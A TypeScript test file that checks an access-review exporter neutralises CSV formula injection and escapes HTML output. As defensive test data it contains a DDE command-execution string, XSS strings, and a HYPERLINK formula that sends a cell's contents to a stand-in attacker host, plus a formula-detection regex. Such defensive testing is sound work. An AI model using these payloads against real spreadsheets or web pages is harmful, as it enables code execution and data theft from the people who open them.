/**
 * Outputs: CSV with hostile principal names opens inert (no cell a spreadsheet would read as a
 * formula), the HTML uses the precompiled strict templates and escapes everything, JSON round-trips.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { csvCell, renderAccessReviewCsv, CSV_HEADER } from '../../src/review/view/access-review-csv.js';
import { renderAccessReviewHtml, renderReviewView } from '../../src/review/view/access-review-html.js';
import { renderAccessReviewJson } from '../../src/review/view/access-review-json.js';
import { buildReviewView } from '../../src/review/view.js';
import type { ReviewDocument } from '../../src/review/types.js';
import type { Snapshot } from '../../src/snapshot/types.js';
import { HOSTILE, november, review, ROOT } from './helpers.js';

/** RFC 4180 parser (quoted fields, doubled quotes, CRLF), independent of the renderer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = text.charCodeAt(0) === 0xfeff ? 1 : 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') { field += '"'; i += 2; continue; }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') field += text[i++];
    }
    row.push(field);
    if (text[i] === ',') { i++; continue; }
    if (text.startsWith('\r\n', i)) { rows.push(row); row = []; i += 2; continue; }
    if (i >= text.length) { rows.push(row); break; }
    throw new Error(`unexpected character at ${i}`);
  }
  return rows;
}

/** A spreadsheet reads a cell as a formula or DDE call when it starts with one of these (OWASP CSV injection). */
const FORMULA_START = /^[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;

function hostileSnapshot(): Snapshot {
  const s = november();
  const ids = Object.keys(s.principals).sort();
  HOSTILE.forEach((name, i) => (s.principals[ids[i]!]!.display_name = name));
  const g = Object.values(s.grants).find((x) => x.principal === 'aad:sp-cab-portal')!;
  g.role = '=cmd|\' /C calc\'!A0';
  return s;
}

describe('access-review.csv', () => {
  let doc: ReviewDocument;
  beforeAll(async () => (doc = await review(hostileSnapshot())));

  it('neutralises cells a spreadsheet would evaluate, keeping the text readable', () => {
    expect(csvCell('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
    expect(csvCell('+cmd')).toBe('"\'+cmd"');
    expect(csvCell(' \u00a0-1')).toBe('"\' \u00a0-1"');
    expect(csvCell('\uff1d1+1')).toBe('"\'\uff1d1+1"');
    expect(csvCell('plain, "quoted"')).toBe('"plain, ""quoted"""');
    expect(csvCell(null)).toBe('""');
  });

  it('with hostile principal names, every cell opens as text and the names survive', () => {
    const csv = renderAccessReviewCsv(doc);
    expect(csv.startsWith('\ufeff')).toBe(true);
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual(CSV_HEADER);
    expect(rows).toHaveLength(doc.matrix.length + 1);
    for (const r of rows) expect(r).toHaveLength(CSV_HEADER.length);
    const cells = rows.flat();
    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    const names = rows.slice(1).map((r) => r[0]!);
    for (const h of HOSTILE.slice(0, 5)) expect(names).toContain(`'${h}`);
    for (const h of HOSTILE.slice(5)) expect(names).toContain(h);
    expect(cells).toContain("'=cmd|' /C calc'!A0");
  });

  it('lists each matrix row with its capabilities, failing rules and a decision column', () => {
    const rows = parseCsv(renderAccessReviewCsv(doc));
    const col = (name: string) => CSV_HEADER.indexOf(name);
    const landscape = rows.find((r) => r[col('principal_id')] === 'aad:sp-landscape-connector')!;
    expect([landscape[col('write')], landscape[col('read-value')], landscape[col('delete')]]).toEqual(['yes', 'yes', '']);
    expect(landscape[col('failing_rules')]!.split(' ')).toEqual(expect.arrayContaining(['VP-ACC-002', 'VP-ACC-004', 'VP-REV-001', 'VP-REV-003']));
    const viaGroup = rows.filter((r) => r[col('principal_id')] === 'aad:user-a.berg');
    expect(viaGroup).toHaveLength(6);
    for (const r of viaGroup) expect(r[col('decision')]).toBe('decided on the group grant');
  });
});

describe('access-review.html', () => {
  let doc: ReviewDocument;
  let html: string;
  beforeAll(async () => {
    doc = await review(hostileSnapshot());
    html = renderAccessReviewHtml(doc);
  });

  it('templates never use unescaped output, and the precompiled module matches the sources', () => {
    const dir = join(ROOT, 'src', 'review', 'templates');
    const sources = [join(dir, 'index.hbs'), ...readdirSync(join(dir, 'partials')).map((f) => join(dir, 'partials', f))];
    expect(sources.length).toBeGreaterThanOrEqual(3);
    for (const file of sources) expect({ file, unescaped: /\{\{\{|\{\{~?\s*&/.test(readFileSync(file, 'utf8')) }).toEqual({ file, unescaped: false });
    execFileSync('node', [join(ROOT, 'scripts', 'precompile-templates.mjs'), '--check'], { stdio: 'pipe' });
  });

  it('templates are strict: a missing field fails the render', () => {
    const v = buildReviewView(doc) as unknown as Record<string, unknown>;
    delete v.counts;
    expect(() => renderReviewView(v as never)).toThrow(/"principals" not defined/);
  });

  it('is self-contained and renders hostile names as inert text', () => {
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'"`);
    expect(html).not.toMatch(/<script|<link|<img|<iframe|@import|url\(/i);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('&quot;&gt;&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;');
    expect(html).toContain('&#x3D;HYPERLINK(&quot;http://evil.example/?x&#x3D;&quot;&amp;A1,&quot;click&quot;)');
    expect(html).toContain('{{7*7}}');
  });

  it('carries the matrix, the findings, the decision column and the notes', () => {
    expect((html.match(/<tr( class="expanded")?><th scope="row">/g) ?? []).length).toBe(doc.matrix.length + doc.grants.length);
    expect((html.match(/class="expanded"/g) ?? []).length).toBe(6);
    expect((html.match(/<td class="decision">keep \/ revoke<\/td>/g) ?? []).length).toBe(doc.grants.length);
    expect(html).toContain('VP-REV-001');
    expect(html).toContain('VP-ACC-003');
    expect(html).toContain('reviewed as one principal');
    expect(html).toContain('No previous review was given');
  });
});

describe('access-review.json', () => {
  it('round-trips and ends with a newline', async () => {
    const doc = await review(november());
    const text = renderAccessReviewJson(doc);
    expect(text.endsWith('}\n')).toBe(true);
    expect(JSON.parse(text)).toEqual(doc);
    expect(doc.schema).toBe('vaultproof/access-review/v1');
  });
});
